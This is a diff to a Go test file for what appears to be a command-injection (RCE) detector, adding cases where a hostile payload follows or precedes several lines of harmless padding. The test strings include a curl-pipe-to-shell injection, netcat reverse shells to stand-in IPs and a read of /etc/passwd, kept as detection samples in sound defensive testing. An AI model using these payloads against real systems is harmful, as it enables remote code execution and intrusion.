@@ -1,8 +1,15 @@
 package detect
 
-import "testing"
+import (
+	"strings"
+	"testing"
+)
 
 func FuzzRCE(f *testing.F) { fuzz(f, RCE) }
+
+// padding looks like a text of several lines, which may quote commands; what
+// breaks out of a parameter behind it must not pass for a quotation.
+var padding = strings.Repeat("this is a harmless line of a text that goes on for a while\n", 5)
 
 func TestRCE(t *testing.T) {
 	recognises(t, RCE, Where{Place: InForm}, []string{
@@ -37,6 +44,9 @@ func TestRCE(t *testing.T) {
 		"X=$'uname\\x20-a'&&$X",
 		"nc -e /bin/sh 10.0.0.1 4444",
 		";{{cat /etc/passwd}}",
+		padding + "127.0.0.1; curl http://h/x.sh | sh",
+		padding + "$(nc -e /bin/sh 203.0.113.9 4444)",
+		"127.0.0.1; curl http://h/x.sh | sh\n" + padding,
 	}, []string{
 		"",
 		"cat and dog; see list",
